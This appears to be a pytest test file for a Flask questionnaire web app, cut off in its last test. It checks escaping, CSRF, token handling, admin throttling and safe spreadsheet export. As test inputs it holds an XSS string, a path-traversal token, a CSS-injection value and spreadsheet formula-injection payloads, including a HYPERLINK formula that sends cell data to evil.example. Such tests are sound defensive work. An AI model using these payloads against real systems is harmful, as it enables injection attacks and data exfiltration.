"""The self-assessment web app through Flask's test client (mini questionnaire and product)."""

from __future__ import annotations

import io
import json
import os
import re
import secrets
import stat
from html import unescape
from pathlib import Path
from typing import Any

import pytest

FIXTURES = Path(__file__).resolve().parent / "fixtures"
ROOT = Path(__file__).resolve().parent.parent
PRODUCT = ROOT / "questionnaires" / "social-media-audit.yaml"
CSRF_RE = re.compile(r'name="csrf_token" value="([^"]+)"')
PASSWORD = "correct horse battery"


def csrf(html: str | bytes) -> str:
    text = html.decode() if isinstance(html, bytes) else html
    match = CSRF_RE.search(text)
    assert match, "page has no CSRF token"
    return match.group(1)


def sample_answer(question: Any) -> Any:
    """A valid answer for any question type."""
    if question.type == "single":
        return max(question.options, key=lambda o: o.points).value
    if question.type == "multi":
        return [next(o.value for o in question.options if not o.exclusive)]
    if question.type == "yesno":
        return "yes"
    if question.type == "scale":
        return "4"
    if question.type == "number":
        low = question.min if question.min is not None else 0
        high = question.max if question.max is not None else low + 10
        return str(int(min(max(low, 2), high)))
    return "Some remarks"


def page_form(questions: list, token: str, overrides: dict[str, Any] | None = None) -> dict[str, Any]:
    """Form data answering every question of a page (the server drops what is hidden)."""
    data: dict[str, Any] = {"csrf_token": token, "shown": " ".join(q.id for q in questions)}
    for q in questions:
        data[f"q_{q.id}"] = sample_answer(q)
    for key, value in (overrides or {}).items():
        data[f"q_{key}"] = value
    return data


def without_csrf(form: dict[str, Any]) -> dict[str, Any]:
    return {k: v for k, v in form.items() if k != "csrf_token"}


class FakeTime:
    """A clock and a sleep that only record: the login delay is checked without waiting."""

    def __init__(self) -> None:
        self.now = 1000.0
        self.slept: list[float] = []

    def clock(self) -> float:
        return self.now

    def sleep(self, seconds: float) -> None:
        self.slept.append(seconds)


@pytest.fixture
def fake_time() -> FakeTime:
    return FakeTime()


@pytest.fixture
def make_app(tmp_path, fake_time, database):
    """Apps on one database: SQLite in the data folder, or a fresh PostgreSQL database."""
    from audit.web import create_app
    from audit.web.security import LoginThrottle

    def make(questionnaire: Path = FIXTURES / "mini.yaml", data: Path | None = None, **config: Any):
        throttle = LoginThrottle(base=2.0, cap=60.0, penalty=0.5, free=0, sleep=fake_time.sleep,
                                 clock=fake_time.clock)
        return create_app(data or tmp_path / "data", None, questionnaire, throttle=throttle,
                          config={"TESTING": True, **config}, db=database,
                          public_url="https://audit.example.nl")

    return make


@pytest.fixture
def app(make_app):
    return make_app()


@pytest.fixture
def client(app):
    return app.test_client()


def start(client, name: str = "Bakkerij De Korenbloem", lang: str = "en", **company: str) -> str:
    """Create a submission through the company form; returns its resume token."""
    page = client.get(f"/start/{lang}")
    assert page.status_code == 200
    response = client.post(f"/start/{lang}", data={"csrf_token": csrf(page.data), "name": name, **company})
    assert response.status_code == 303, response.data
    match = re.fullmatch(r"/s/([A-Za-z0-9_-]{43})/1", response.headers["Location"])
    assert match, response.headers["Location"]
    return match.group(1)


def post_page(client, token: str, number: int, form: dict[str, Any]):
    page = client.get(f"/s/{token}/{number}")
    assert page.status_code == 200
    return client.post(f"/s/{token}/{number}", data={"csrf_token": csrf(page.data), **form})


def stored(app, token: str):
    return app.extensions["smaudit"].store.by_token(token)


def fill_all(client, app, token: str, overrides: dict[str, Any] | None = None) -> None:
    q = app.extensions["smaudit"].questionnaire
    pages = [d for d in q.dimensions if q.questions_in(d.id)]
    for number, dim in enumerate(pages, 1):
        page = client.get(f"/s/{token}/{number}")
        form = page_form(q.questions_in(dim.id), csrf(page.data), overrides)
        response = client.post(f"/s/{token}/{number}", data=form)
        assert response.status_code == 303, (dim.id, response.data.decode()[:3000])
        expected = f"/s/{token}/{number + 1}" if number < len(pages) else f"/s/{token}/result"
        assert response.headers["Location"] == expected


# --- the flow ---------------------------------------------------------------------------------

def test_home_offers_both_languages(client):
    page = client.get("/").data.decode()
    assert 'href="/start/nl"' in page and 'href="/start/en"' in page
    assert '<html lang="nl">' in page


def test_whole_flow_with_a_question_appearing(client, app):
    token = start(client, "Acme <script>alert(1)</script>", size="2-9", sector="Retail")
    # Page 1 (strategy): a plan and three channels.
    response = post_page(client, token, 1, {"q_plan": "none", "q_channels": ["linkedin", "facebook",
                                                                                 "instagram"],
                                            "shown": "plan channels"})
    assert response.headers["Location"] == f"/s/{token}/2"
    # Page 2 (team), JavaScript off: "people" opens two questions, so the page comes back.
    response = post_page(client, token, 2, {"q_people": "1", "shown": "people remarks"})
    assert response.status_code == 200
    html = response.data.decode()
    assert "extra questions" in html
    assert re.search(r'data-question="hours"(?! hidden)', html)
    assert stored(app, token).answers == {"plan": "none", "channels": ["linkedin", "facebook", "instagram"],
                                          "people": 1}
    response = post_page(client, token, 2, {"q_people": "1", "q_hours": "2", "q_guidelines": "no",
                                            "q_remarks": "We post <b>weekly</b>",
                                            "shown": "people hours guidelines remarks"})
    assert response.headers["Location"] == f"/s/{token}/result"
    result = client.get(f"/s/{token}/result")
    html = result.data.decode()
    assert result.status_code == 200
    assert "Acme &lt;script&gt;alert(1)&lt;/script&gt;" in html and "<script>alert" not in html
    assert "level 2 of 5, “Two”" in html  # 29.6 points: the level assess() gives
    assert "No plan" in html and "Alone" in html  # the findings, most important first
    assert '<svg' in html and "Strategy" in html
    sub = stored(app, token)
    assert sub.completed
    assert sub.answers["remarks"] == "We post <b>weekly</b>"  # stored as typed, escaped on output


@pytest.mark.pdf
def test_pdf_download_holds_company_and_level(client, app):
    pypdf = pytest.importorskip("pypdf")
    token = start(client, "Drukkerij <i>Van Dam</i>")
    fill_all(client, app, token)
    response = client.get(f"/s/{token}/report.pdf")
    assert response.status_code == 200
    assert response.mimetype == "application/pdf"
    assert 'filename="drukkerij-i-van-dam-i.pdf"' in response.headers["Content-Disposition"]
    text = " ".join(p.extract_text() for p in pypdf.PdfReader(io.BytesIO(response.data)).pages)
    from audit.web.report import assessment_of

    level = assessment_of(stored(app, token), app.extensions["smaudit"].questionnaire).level
    assert "Drukkerij <i>Van Dam</i>" in text  # HTML typed by the client is text in the PDF
    assert level["name"] in text


def test_dutch_submission_speaks_dutch(client):
    token = start(client, "Bouwbedrijf Peeters", lang="nl")
    html = client.get(f"/s/{token}/1").data.decode()
    assert '<html lang="nl">' in html and "Stap 2 van 3" in html and "Bewaren en verder" in html


def test_result_waits_for_required_answers(client):
    token = start(client)
    assert client.get(f"/s/{token}/result").headers["Location"] == f"/s/{token}/1"
    assert client.get(f"/s/{token}/report.pdf").status_code == 302


# --- resume, storage, restart -----------------------------------------------------------------

def test_resume_link_works_on_another_device(client, app):
    token = start(client)
    post_page(client, token, 1, {"q_plan": "written", "shown": "plan channels"})
    other_device = app.test_client()  # no cookies, no session
    response = other_device.get(f"/s/{token}")
    assert response.headers["Location"] == f"/s/{token}/2"
    page = other_device.get(f"/s/{token}/1").data.decode()
    assert re.search(r'value="written" checked', page)
    assert f"/s/{token}" in page  # the resume link is shown to keep
    fill_all(other_device, app, token)
    assert app.test_client().get(f"/s/{token}").headers["Location"] == f"/s/{token}/result"


def test_database_survives_a_restart(make_app, tmp_path):
    app = make_app()
    client = app.test_client()
    token = start(client, "Garage Jansen")
    fill_all(client, app, token)
    store = app.extensions["smaudit"].store
    key = app.config["SECRET_KEY"]
    assert len(key) == 64
    if store.dialect == "sqlite":
        assert stat.S_IMODE((tmp_path / "data" / "submissions.sqlite3").stat().st_mode) == 0o600
        with store.engine.connect() as conn:
            assert conn.exec_driver_sql("PRAGMA journal_mode").scalar() == "wal"
    store.dispose()
    again = make_app()
    assert again.config["SECRET_KEY"] == key  # sessions and open forms stay valid over a restart
    sub = again.extensions["smaudit"].store.by_token(token)
    assert sub.company["name"] == "Garage Jansen" and sub.completed and sub.answers["plan"] == "written"
    assert again.test_client().get(f"/s/{token}/result").status_code == 200


def test_answers_saved_under_an_older_questionnaire(client, app, with_password):
    token = start(client, "Oud Archief")
    fill_all(client, app, token)
    store = app.extensions["smaudit"].store
    sub = stored(app, token)
    sub.answers = {**sub.answers, "plan": "option_since_removed", "gone": "question since removed"}
    store.save(sub)
    response = client.get(f"/s/{token}")
    assert response.headers["Location"] == f"/s/{token}/1"  # "plan" must be answered again
    assert client.get("/admin/", headers=_auth(PASSWORD)).status_code == 200


def test_tokens_are_not_stored_in_the_database(client, app, tmp_path):
    from sqlalchemy import inspect, text

    token = start(client)
    store = app.extensions["smaudit"].store
    with store.engine.connect() as conn:
        for table in inspect(conn).get_table_names():
            for row in conn.execute(text(f"SELECT * FROM {table}")):
                assert token not in repr(tuple(row)), table
    if store.dialect == "sqlite":
        raw = (tmp_path / "data" / "submissions.sqlite3").read_bytes()
        wal = tmp_path / "data" / "submissions.sqlite3-wal"
        raw += wal.read_bytes() if wal.exists() else b""
        assert token.encode() not in raw
    assert len(token) == 43  # 32 random bytes, 256 bits


# --- visibility ---------------------------------------------------------------------------------

def test_hidden_answers_are_kept_not_scored_and_come_back(client, app):
    from audit.web.report import assessment_of

    token = start(client)
    fill_all(client, app, token, overrides={"people": "2", "hours": "4", "guidelines": "yes"})
    # "No people" hides two questions; the browser still sends what they held.
    response = post_page(client, token, 2, {"q_people": "0", "q_hours": "4", "q_guidelines": "yes",
                                            "shown": "people hours guidelines remarks"})
    assert response.status_code == 303
    sub = stored(app, token)
    assert sub.answers["hours"] == 4 and sub.answers["guidelines"] == "yes"  # kept...
    assessment = assessment_of(sub, app.extensions["smaudit"].questionnaire)
    assert set(assessment.hidden_answers) == {"hours", "guidelines"}  # ...but not scored
    team = assessment.dimension("team")
    assert {c.question for c in team.contributions if c.status == "answered"} == {"people"}
    html = client.get(f"/s/{token}/2").data.decode()
    assert 'data-question="hours" hidden' in html and 'data-question="guidelines" hidden' in html
    assert re.search(r'name="q_hours" value="4" checked', html)  # still in the form when shown again
    # Without the script the hidden questions' fields may be left out: nothing is erased either.
    response = post_page(client, token, 2, {"q_people": "3", "shown": "people remarks"})
    assert response.status_code == 200  # the questions came back: the page is shown again
    sub = stored(app, token)
    assert sub.answers["hours"] == 4 and sub.answers["guidelines"] == "yes" and sub.answers["people"] == 3
    assert re.search(r'name="q_hours" value="4" checked', response.data.decode())


def test_going_back_saves_the_page_as_a_draft(client, app):
    token = start(client)
    post_page(client, token, 1, {"q_plan": "rough", "shown": "plan channels"})
    page = client.get(f"/s/{token}/2")
    assert 'name="action" value="back"' in page.data.decode()  # Back is a button of the form
    response = client.post(f"/s/{token}/2", data={"csrf_token": csrf(page.data), "action": "back",
                                                  "q_people": "twelve", "q_remarks": "half a thought",
                                                  "shown": "people hours guidelines remarks"})
    assert response.status_code == 303 and response.headers["Location"] == f"/s/{token}/1"
    sub = stored(app, token)
    assert sub.answers["remarks"] == "half a thought"  # valid answers saved, nothing demanded
    assert sub.drafts == {"people": "twelve"}  # what did not fit yet is kept as typed
    html = client.get(f"/s/{token}/2").data.decode()
    assert 'value="twelve"' in html and "Please enter a number" in html
    response = post_page(client, token, 2, {"q_people": "12", "shown": "people hours guidelines remarks"})
    assert stored(app, token).drafts == {} and stored(app, token).answers["people"] == 12
    # Back from the first page goes to the company details, saving page 1 too.
    page = client.get(f"/s/{token}/1")
    response = client.post(f"/s/{token}/1", data={"csrf_token": csrf(page.data), "action": "back",
                                                  "q_plan": "written", "shown": "plan channels"})
    assert response.headers["Location"] == f"/s/{token}/company"
    assert stored(app, token).answers["plan"] == "written"


@pytest.mark.skipif(not PRODUCT.exists(), reason="the product questionnaire has not landed yet")
def test_not_active_keeps_every_answer_and_skips_empty_pages(make_app, tmp_path):
    from audit.answers import visible

    app = make_app(questionnaire=PRODUCT, data=tmp_path / "product")
    client = app.test_client()
    q = app.extensions["smaudit"].questionnaire
    token = start(client, "Slapend Actief BV", lang="nl")
    fill_all(client, app, token, overrides={"active": "regular"})
    before = dict(stored(app, token).answers)
    pages = [d for d in q.dimensions if q.questions_in(d.id)]
    first = q.questions_in(pages[0].id)
    response = post_page(client, token, 1, without_csrf(page_form(first, "", {"active": "no"})))
    assert response.status_code in (200, 303)
    assert stored(app, token).answers == {**before, "active": "no"}  # nothing erased
    shown = visible(q, stored(app, token).answers)
    empty = [n for n, d in enumerate(pages, 1) if not any(shown[x.id] for x in q.questions_in(d.id))]
    assert empty, "the product questionnaire hides whole pages for an inactive company"
    # Walking on from page 1 never lands on a page without a visible question.
    number, visited = 1, []
    while True:
        page = client.get(f"/s/{token}/{number}")
        if page.status_code == 302:
            location = page.headers["Location"]
            if location.endswith("/result"):
                break
            number = int(location.rsplit("/", 1)[1])
            continue
        visited.append(number)
        questions = q.questions_in(pages[number - 1].id)
        form = page_form([x for x in questions if shown[x.id]], csrf(page.data), {"active": "no"})
        response = client.post(f"/s/{token}/{number}", data=form)
        assert response.status_code == 303, response.data.decode()[:2000]
        location = response.headers["Location"]
        if location.endswith("/result"):
            break
        number = int(location.rsplit("/", 1)[1])
    assert not set(visited) & set(empty)
    # Active again: every earlier answer is back and counts.
    post_page(client, token, 1, without_csrf(page_form(first, "", {"active": "regular"})))
    answers = stored(app, token).answers
    assert {k: v for k, v in answers.items() if k != "active"} == {k: v for k, v in before.items()
                                                                   if k != "active"}


def test_visibility_endpoint_follows_the_form(client):
    token = start(client)
    page = client.get(f"/s/{token}/2")
    form = {"csrf_token": csrf(page.data)}
    hidden = client.post(f"/s/{token}/2/visible", data={**form, "q_people": "0"}).get_json()
    shown = client.post(f"/s/{token}/2/visible", data={**form, "q_people": "4"}).get_json()
    assert hidden["visible"] == {"people": True, "hours": False, "guidelines": False, "remarks": True}
    assert shown["visible"]["hours"] is True and shown["visible"]["guidelines"] is True


# --- validation ---------------------------------------------------------------------------------

@pytest.mark.parametrize("form, question, message", [
    ({}, "plan", "Please answer this question."),
    ({"q_plan": "bogus"}, "plan", "Please choose one of the options given."),
    ({"q_plan": "none", "q_channels": ["none", "linkedin"]}, "channels", "cannot be combined"),
])
def test_page_one_errors(client, app, form, question, message):
    token = start(client)
    response = post_page(client, token, 1, {"shown": "plan channels", **form})
    html = response.data.decode()
    assert response.status_code == 400
    assert message in html
    # The message is linked to its question for screen readers, and listed in the summary.
    assert re.search(rf'<fieldset id="q-{question}" aria-describedby="[^"]*error-{question}', html)
    assert f'href="#q-{question}"' in html and 'role="alert"' in html
    assert question not in stored(app, token).answers


@pytest.mark.parametrize("form, question, message", [
    ({"q_people": "many"}, "people", "Please enter a number"),
    ({"q_people": "-3"}, "people", "can't be lower than 0"),
    ({"q_people": "501"}, "people", "can't be higher than 500"),
    ({"q_people": "9" * 41}, "people", "at most 40 characters"),
    ({"q_people": "2", "q_hours": "7"}, "hours", "from 1 to 5"),
    ({"q_people": "2", "q_guidelines": "maybe"}, "guidelines", "Please choose yes or no."),
    ({"q_people": "2", "q_remarks": "x" * 2001}, "remarks", "at most 2000 characters"),
    ({"q_people": "2", "n_people": "x" * 1001}, "people", "at most 1000 characters"),
])
def test_page_two_errors(client, app, form, question, message):
    token = start(client)
    response = post_page(client, token, 2, {"shown": "people hours guidelines remarks", **form})
    html = unescape(response.data.decode())
    assert response.status_code == 400, html
    assert message in html
    assert f'id="error-{question}"' in html
    assert re.search(rf'id="q-{question}"[^>]*aria-describedby="[^"]*error-{question}', html)


def test_dutch_number_and_error_in_dutch(client, app):
    token = start(client, lang="nl")
    response = post_page(client, token, 2, {"q_people": "veel", "shown": "people remarks"})
    assert "Vul een getal in" in response.data.decode()
    response = post_page(client, token, 2, {"q_people": "1.250", "shown": "people hours guidelines remarks"})
    assert "mag niet hoger zijn dan 500" in response.data.decode()  # Dutch thousands: 1250
    post_page(client, token, 2, {"q_people": "2,5", "shown": "people hours guidelines remarks"})
    assert stored(app, token).answers["people"] == 2.5
    assert 'value="2,5"' in client.get(f"/s/{token}/2").data.decode()


@pytest.mark.parametrize("form, message", [
    ({"name": "  "}, "Please enter the company name."),
    ({"name": "A" * 201}, "at most 200 characters"),
    ({"name": "Acme", "size": "lots"}, "Please choose one of the sizes given."),
    ({"name": "Acme", "contact": "c" * 201}, "at most 200 characters"),
])
def test_company_errors(client, app, form, message):
    page = client.get("/start/en")
    response = client.post("/start/en", data={"csrf_token": csrf(page.data), **form})
    assert response.status_code == 400
    assert message in response.data.decode()
    assert 'aria-invalid="true"' in response.data.decode()
    assert app.extensions["smaudit"].store.count() == 0


def test_request_size_is_limited(client):
    token = start(client)
    page = client.get(f"/s/{token}/2")
    response = client.post(f"/s/{token}/2", data={"csrf_token": csrf(page.data), "q_remarks": "x" * 300_000})
    assert response.status_code == 413


# --- security -------------------------------------------------------------------------------------

def test_csrf_is_refused(client, app):
    response = client.post("/start/en", data={"name": "Evil Corp"})
    assert response.status_code == 400
    assert "expired" in response.data.decode()
    assert app.extensions["smaudit"].store.count() == 0
    token = start(client)
    response = client.post(f"/s/{token}/1", data={"q_plan": "none", "csrf_token": "forged"})
    assert response.status_code == 400
    assert stored(app, token).answers == {}
    # A token from another browser session is refused too.
    other = app.test_client()
    stolen = csrf(other.get("/start/en").data)
    assert client.post(f"/s/{token}/1", data={"q_plan": "none", "csrf_token": stolen}).status_code == 400


def test_forms_work_over_https(client, app):
    """Behind an HTTPS proxy Flask-WTF also checks the Referer: the browser must send it."""
    https = "https://audit.example"
    page = client.get("/start/en", base_url=https)
    form = {"csrf_token": csrf(page.data), "name": "Secure BV"}
    assert client.post("/start/en", data=form, base_url=https).status_code == 400  # no Referer
    response = client.post("/start/en", data=form, base_url=https, headers={"Referer": https + "/start/en"})
    assert response.status_code == 303


def test_other_tokens_are_refused(client, app):
    token = start(client, "Company A")
    sub = stored(app, token)
    guess = secrets.token_urlsafe(32)
    for bad in (guess, token[:-1], token + "x", sub.key, "1", "..%2F..%2Fsecret_key"):
        for path in ("", "/1", "/result", "/report.pdf", "/company"):
            assert client.get(f"/s/{bad}{path}").status_code == 404, (bad, path)
    page = client.get(f"/s/{token}/1")
    response = client.post(f"/s/{guess}/1", data={"csrf_token": csrf(page.data), "q_plan": "none"})
    assert response.status_code == 404


def test_security_headers(client):
    response = client.get("/")
    csp = response.headers["Content-Security-Policy"]
    assert "script-src 'self'" in csp and "frame-ancestors 'none'" in csp and "unsafe-inline" not in csp
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Referrer-Policy"] == "same-origin"
    assert "<script>" not in response.data.decode() and "style=" not in response.data.decode()


def test_brand_logo_route_serves_only_the_logo(client, app):
    brand = app.extensions["smaudit"].brand
    response = client.get("/brand/logo")
    assert response.status_code == 200 and response.data == brand.logo_path.read_bytes()
    for path in ("/brand/brand.yaml", "/brand/logo/../brand.yaml", "/brand/..%2Fbrand.yaml"):
        assert client.get(path).status_code == 404
    css = client.get("/brand.css").data.decode()
    assert f"--primary: {brand.primary};" in css


def test_brand_colours_keep_contrast():
    from audit.web.colours import brand_css, contrast

    class Pale:
        primary, accent = "#ffe14d", "#9fd3ff"

    css = brand_css(Pale())
    values = dict(re.findall(r"--([a-z-]+): (#[0-9a-f]{6});", css))
    for background in ("#ffffff", "#f3f5f7"):  # white, and the grey of the resume box and footer
        assert contrast(values["primary-text"], background) >= 4.5
        assert contrast(values["accent-text"], background) >= 4.5
    assert contrast(values["primary"], values["on-primary"]) >= 4.5

    class Evil:
        primary, accent = "red;} body{display:none", "#123456"

    assert "display" not in brand_css(Evil())


# --- admin ----------------------------------------------------------------------------------------

def _auth(password: str) -> dict[str, str]:
    import base64

    return {"Authorization": "Basic " + base64.b64encode(f"admin:{password}".encode()).decode()}


@pytest.fixture
def with_password(tmp_path, monkeypatch):
    from audit.web.security import PASSWORD_ENV, set_password

    monkeypatch.delenv(PASSWORD_ENV, raising=False)
    path = set_password(tmp_path / "data", PASSWORD)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert PASSWORD not in path.read_text()


def test_admin_without_password_set_is_closed(client, monkeypatch):
    from audit.web.security import PASSWORD_ENV

    monkeypatch.delenv(PASSWORD_ENV, raising=False)
    response = client.get("/admin/", headers=_auth("anything"))
    assert response.status_code == 401
    assert "--set-password" in response.data.decode()


def test_admin_lists_submissions_with_files(client, app, with_password):
    assert client.get("/admin/").status_code == 401
    assert client.get("/admin/").headers["WWW-Authenticate"].startswith("Basic")
    token = start(client, "Kapsalon Anna")
    fill_all(client, app, token)
    start(client, "Half Klaar BV")
    response = client.get("/admin/", headers=_auth(PASSWORD))
    html = response.data.decode()
    assert response.status_code == 200
    assert "Kapsalon Anna" in html and "Half Klaar BV" in html and "afgerond" in html and "bezig" in html
    assert token not in html  # admin links use the hash, never the resume token
    key = stored(app, token).key
    data = json.loads(client.get(f"/admin/{key}/assessment.json", headers=_auth(PASSWORD)).data)
    assert data["company"]["name"] == "Kapsalon Anna" and data["level"]["number"] >= 1
    answers = json.loads(client.get(f"/admin/{key}/answers.json", headers=_auth(PASSWORD)).data)
    assert answers["answers"]["plan"] == "written"
    assert client.get(f"/admin/{key}/assessment.json").status_code == 401
    assert client.get(f"/s/{key}/result").status_code == 404


def test_admin_password_from_environment(client, monkeypatch):
    from werkzeug.security import generate_password_hash

    from audit.web.security import PASSWORD_ENV

    monkeypatch.setenv(PASSWORD_ENV, generate_password_hash("from the env var", method="pbkdf2"))
    assert client.get("/admin/", headers=_auth("from the env var")).status_code == 200
    assert client.get("/admin/", headers=_auth(PASSWORD)).status_code == 401


def test_wrong_passwords_are_slowed_down(client, fake_time, with_password):
    assert client.get("/admin/", headers=_auth("guess 1")).status_code == 401
    assert fake_time.slept == [0.5]  # every wrong password costs a pause
    # Now this address waits 2 s: even the right password is refused until then.
    response = client.get("/admin/", headers=_auth(PASSWORD))
    assert response.status_code == 429 and response.headers["Retry-After"] == "2"
    fake_time.now += 2
    assert client.get("/admin/", headers=_auth("guess 2")).status_code == 401
    response = client.get("/admin/", headers=_auth(PASSWORD))
    assert response.status_code == 429 and response.headers["Retry-After"] == "4"  # doubled
    fake_time.now += 4
    assert client.get("/admin/", headers=_auth(PASSWORD)).status_code == 200
    assert client.get("/admin/", headers=_auth("guess 3")).status_code == 401
    assert client.get("/admin/", headers=_auth(PASSWORD)).headers["Retry-After"] == "2"  # reset after success


def test_set_password_command(tmp_path, monkeypatch):
    from click.testing import CliRunner

    from audit.commands.serve import serve
    from audit.web.security import PASSWORD_ENV, check_password, password_hash

    monkeypatch.delenv(PASSWORD_ENV, raising=False)
    data = tmp_path / "d"
    result = CliRunner().invoke(serve, ["--data", str(data), "--set-password"],
                                input="a long secret!\na long secret!\n")
    assert result.exit_code == 0, result.output
    assert check_password(password_hash(data), "a long secret!")
    assert not check_password(password_hash(data), "a long secret")
    result = CliRunner().invoke(serve, ["--data", str(data), "--set-password"], input="short\nshort\n")
    assert result.exit_code != 0 and "at least 10" in result.output


# --- export ---------------------------------------------------------------------------------------

@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_export_reads_back_in_the_batch_importer(client, app, tmp_path, suffix):
    from audit.batch.matching import parse_rows
    from audit.batch.readers import read_table
    from audit.web.export import export_submissions

    done = start(client, "Kaasmakerij Hoeve", sector="Food", size="10-49")
    fill_all(client, app, done, overrides={"channels": ["linkedin", "instagram"], "people": "2,5"})
    start(client, "Not Finished")
    out = tmp_path / f"clients{suffix}"
    q = app.extensions["smaudit"].questionnaire
    database = app.extensions["smaudit"].store
    assert export_submissions(database, q, out).written == 1
    parsed = parse_rows(read_table(out), q, "nl")
    assert len(parsed.rows) == 1
    row = parsed.rows[0]
    assert not row.problems, row.problems
    assert row.company["name"] == "Kaasmakerij Hoeve" and row.company["size"] == "10-49"
    assert row.answers.values == stored(app, done).answers
    # each row names the questionnaire version it was answered with: a later smaudit reads the
    # questions added since as not asked (tests/test_batch_versions.py)
    last = _cells(out)[0][-1]
    assert getattr(last, "value", last) == q.version and row.answers.questionnaire_version == q.version
    assert export_submissions(database, q, out, include_all=True).written == 2


HOSTILE = ["=1+1", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+31 6 1234", "-2+3",
           "@SUM(A1)", "\tindented", "\r=cr"]


def _cells(out: Path) -> list[list[Any]]:
    """The data rows of an exported client list (after its two header rows), as written."""
    if out.suffix == ".csv":
        import csv

        text = out.read_bytes().decode("utf-8-sig")  # no newline translation: CR stays CR
        return list(csv.reader(io.StringIO(text), delimiter=";"))[2:]
    from openpyxl import load_workbook

    sheet = load_workbook(out).worksheets[0]
    return [[c for c in row] for row in sheet.iter_rows(min_row=3)]


def test_export_never_writes_client_text_as_a_formula(client, app, tmp_path):
    from audit.web.export import export_submissions

    store = app.extensions["smaudit"].store
    q = app.extensions["smaudit"].questionnaire
    for text in HOSTILE:
        token = start(client, "Firma " + text.strip())
        sub = stored(app, token)
        sub.company["name"] = text  # the form strips; stored text may start with anything
        sub.answers["remarks"] = text
        store.save(sub)
    database = app.extensions["smaudit"].store
    ids = ["name"] + [qu.id for qu in q.questions]
    xlsx = tmp_path / "out.xlsx"
    assert export_submissions(database, q, xlsx, include_all=True).written == len(HOSTILE)
    from audit.answers import COMPANY_FIELDS

    name_col = COMPANY_FIELDS.index("name")
    remarks_col = len(COMPANY_FIELDS) + [qu.id for qu in q.questions].index("remarks")
    rows = _cells(xlsx)
    assert len(rows) == len(HOSTILE) and ids
    # A text answer is stored stripped ("\tindented" -> "indented"); company fields as given.
    for row, text in zip(rows, HOSTILE, strict=True):
        for cell, expected in ((row[name_col], text), (row[remarks_col], text.strip())):
            assert cell.data_type == "s", (text, cell.data_type)  # text, never a formula ("f")
            assert cell.value == expected.replace("\r", "\n")  # XML reads CR back as LF
    assert b"<f>" not in _zip_sheet(xlsx)
    csv_out = tmp_path / "out.csv"
    export_submissions(database, q, csv_out, include_all=True)

    def prefixed(v: str) -> str:
        return "'" + v if v[:1] in ("=", "+", "-", "@", "\t", "\r") else v

    for row, text in zip(_cells(csv_out), HOSTILE, strict=True):
        assert row[name_col] == "'" + text and row[remarks_col] == prefixed(text.strip())
    assert [r[remarks_col] for r in _cells(csv_out)][:2] == ["'=1+1", "'" + HOSTILE[1]]


def _zip_sheet(xlsx: Path) -> bytes:
    import zipfile

    with zipfile.ZipFile(xlsx) as z:
        return b"".join(z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))


def test_export_strips_control_characters_and_goes_on_past_a_bad_submission(client, app, tmp_path):
    from audit.web.export import export_submissions

    store = app.extensions["smaudit"].store
    q = app.extensions["smaudit"].questionnaire
    good = start(client, "Goed Bezig")
    noisy = start(client, "Bel en Esc")
    broken = start(client, "Kapot Record")
    sub = stored(app, noisy)
    sub.company["name"] = "Bel\x07 en Esc\x1b"
    sub.answers["remarks"] = "nul\x00 teken"
    store.save(sub)
    sub = stored(app, broken)
    sub.company = ["not", "a", "mapping"]  # as an old or damaged row might hold
    store.save(sub)
    database = app.extensions["smaudit"].store
    for suffix in (".xlsx", ".csv"):
        out = tmp_path / f"all{suffix}"
        result = export_submissions(database, q, out, include_all=True)
        assert result.written == 2 and result.skipped == 1
        text = "\n".join(result.problems)
        assert "column name: 2 control character(s) removed" in text
        assert "column remarks: 1 control character(s) removed" in text
        assert "skipped" in text
        names = [str(row[0].value if suffix == ".xlsx" else row[0]) for row in _cells(out)]
        assert names == ["Goed Bezig", "Bel en Esc"]
    assert stored(app, good) is not None


def test_export_command_reports_skipped_submissions(client, app, tmp_path, database):
    from click.testing import CliRunner

    from audit.cli import cli

    start(client, "Goed Bezig")
    sub = stored(app, start(client, "Kapot"))
    sub.company = ["damaged"]
    app.extensions["smaudit"].store.save(sub)
    out = tmp_path / "x.csv"
    db = ["--db", database] if database else []
    result = CliRunner().invoke(cli, ["export", "--data", str(tmp_path / "data"), "-o", str(out), "--all",
                                      "--questionnaire", str(FIXTURES / "mini.yaml"), *db])
    assert result.exit_code == 1
    assert "skipped" in result.output and "1 submission(s) written" in result.output
    assert "Goed Bezig" in out.read_text(encoding="utf-8-sig")


def test_control_characters_are_refused_at_the_form(client, app):
    token = start(client)
    response = post_page(client, token, 2, {"q_people": "2", "q_remarks": "hallo\x1b[31m",
                                            "shown": "people hours guidelines remarks"})
    assert response.status_code == 400
    assert "invisible control character" in response.data.decode()
    assert "remarks" not in stored(app, token).answers
    page = client.get("/start/en")
    response = client.post("/start/en", data={"csrf_token": csrf(page.data), "name": "Bel\x07"})
    assert response.status_code == 400 and "invisible control character" in response.data.decode()
    # Line breaks and tabs in a remark are ordinary text.
    response = post_page(client, token, 2, {"q_people": "2", "q_remarks": "regel 1\r\nregel\t2",
                                            "shown": "people hours guidelines remarks"})
    assert response.status_code == 303
    assert stored(app, token).answers["remarks"] == "regel 1\r\nregel\t2"


@pytest.mark.parametrize("raw", ["NaN", "nan", "inf", "-Infinity", "1e999", float("inf")])
def test_nan_and_infinity_are_not_numbers(raw, mini):
    from audit.answers import AnswerError, normalise

    with pytest.raises(AnswerError) as caught:
        normalise(mini.question("people"), raw)
    assert caught.value.code == "not_number"
    with pytest.raises(AnswerError):
        normalise(mini.question("hours"), raw)  # the 1-5 scale too


def test_nan_in_a_number_field_is_a_form_error(client, app):
    token = start(client)
    for raw in ("NaN", "inf", "1e999"):
        response = post_page(client, token, 2, {"q_people": raw, "shown": "people hours guidelines remarks"})
        assert response.status_code == 400
        assert "Please enter a number" in response.data.decode()
    assert "people" not in stored(app, token).answers


def test_export_command_errors(tmp_path):
    from click.testing import CliRunner

    from audit.cli import cli

    result = CliRunner().invoke(cli, ["export", "--data", str(tmp_path), "-o", str(tmp_path / "x.xlsx")],
                                standalone_mode=False)
    assert "no submissions database" in str(result.exception)


# --- the product questionnaire ---------------------------------------------------------------------

@pytest.mark.skipif(not PRODUCT.exists(), reason="the product questionnaire has not landed yet")
def test_product_questionnaire_whole_flow(make_app, tmp_path):
    app = make_app(questionnaire=PRODUCT, data=tmp_path / "product")
    client = app.test_client()
    token = start(client, "Installatiebedrijf Smit", lang="nl")
    fill_all(client, app, token)
    html = client.get(f"/s/{token}/result").data.decode()
